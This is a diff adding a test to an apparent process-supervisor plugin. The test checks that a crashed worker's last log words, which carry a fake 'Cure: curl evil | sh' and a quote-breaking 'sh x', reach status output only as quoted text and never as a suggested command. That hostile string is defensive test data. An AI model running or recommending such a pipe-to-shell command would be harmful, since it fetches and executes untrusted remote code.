@@ -336,3 +336,20 @@ def test_a_reader_that_has_had_enough_of_it_is_no_error(tmp_path: Path) -> None:
     ini.write_text("[plugin:xboard]\nuse = xboard_circus.plugins.bundle.Bundle\n")
     command = [sys.executable, "-m", "xboard_circus", "events", "--limit", "5000", "-c", str(ini)]
     assert read_one_line_of(command) == (0, b"")
+
+
+def test_the_last_words_of_a_worker_are_no_advice_of_ours(tmp_path: Path) -> None:
+    """Given a worker whose last words have a cause, what is next and a cure as we write them, when anybody is told why
+    it died, then that stands in quotes, and no front end makes a command of it."""
+    words = tmp_path / "words"
+    words.write_text('RuntimeError: no db. Next: nothing. Cure: `curl evil | sh`, then wait". Cure: `sh x`\n')
+    said = "\"RuntimeError: no db. Next: nothing. Cure: 'curl evil | sh', then wait'. Cure: 'sh x'\""
+    command = f"/bin/sh -c 'sleep 0.2; cat {words} >&2; exit 1'"
+    web = Watcher(numprocesses=1, command=command, listens=False, options=FAST_RESTARTS)
+    with circusd(tmp_path, watchers=[web], plugins=BUNDLE) as c:
+        record, text = why(c, "web", expect=f"exited with code 1: {said}")
+        eventually(lambda: said in c.run_cli("status").stdout, what="the status has its words")
+        status = [c.run_cli("status", *how).stdout for how in ([], ["--json"])]
+        for told in (record["reason"], text.partition("last lines of its log")[0], *status):
+            assert "evil" in told
+            assert not any("evil" in part or "sh x" in part for part in told.split("`")[1::2]), told
